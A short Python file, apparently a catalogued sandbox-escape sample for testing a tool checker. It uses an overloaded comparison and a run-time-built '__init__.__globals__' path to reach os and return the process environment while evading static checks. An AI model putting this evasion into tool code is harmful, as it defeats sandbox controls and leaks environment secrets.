# family: computed
# Escape: ordering comparisons are operands too: `marker < type(operator.attrgetter("x"))` calls the tool's
# __lt__ with the attrgetter class. A run-time path "__init__.__globals__" then reads random's module globals,
# including os, and returns the environment.
import operator
import random


class Marker:
    def __lt__(self, other) -> bool:
        self.other = other
        return True


def tool(word: str = "globals") -> str:
    marker = Marker()
    marker < type(operator.attrgetter("real"))
    scope = marker.other("__init__.__" + word + "__")(random.Random())
    return str(scope["_os"].environ)
